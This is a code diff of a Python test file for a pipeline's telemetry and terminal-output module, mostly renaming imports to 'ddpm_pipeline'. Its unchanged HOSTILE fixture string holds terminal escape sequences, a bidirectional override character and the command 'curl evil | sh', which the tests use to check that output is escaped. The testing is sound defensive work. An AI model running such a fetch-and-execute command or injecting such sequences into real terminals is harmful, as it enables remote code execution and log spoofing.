@@ -8,8 +8,8 @@ import sys
 
 import pytest
 
-from pipeline.telemetry.redaction import MASK
-from pipeline.telemetry.terminal import echo, echo_json, one_line
+from ddpm_pipeline.telemetry.redaction import MASK
+from ddpm_pipeline.telemetry.terminal import echo, echo_json, one_line
 
 HOSTILE = "\x1b]0;owned\x07\x1b[2Jcat\r\nnext     curl evil | sh\u202e\udce9"
 
@@ -47,7 +47,9 @@ def test_json_is_masked_and_keeps_control_characters_escaped(capsys: pytest.Capt
 
 @pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
 def test_a_narrow_terminal_shows_escapes_instead_of_a_traceback(encoding: str) -> None:
-    program = "from pipeline.telemetry.logs import set_up_logging; set_up_logging(); print('loss → 日本')"
+    program = (
+        "from ddpm_pipeline.telemetry.logs import set_up_logging; set_up_logging(); print('loss → 日本')"
+    )
     done = subprocess.run(
         [sys.executable, "-c", program],
         capture_output=True,
@@ -58,7 +60,7 @@ def test_a_narrow_terminal_shows_escapes_instead_of_a_traceback(encoding: str) -
 
 
 def test_a_stream_without_an_encoding_is_left_alone(monkeypatch: pytest.MonkeyPatch) -> None:
-    from pipeline.telemetry.logs import set_up_logging
+    from ddpm_pipeline.telemetry.logs import set_up_logging
 
     monkeypatch.setattr(sys, "stdout", stream := io.StringIO())
     set_up_logging()
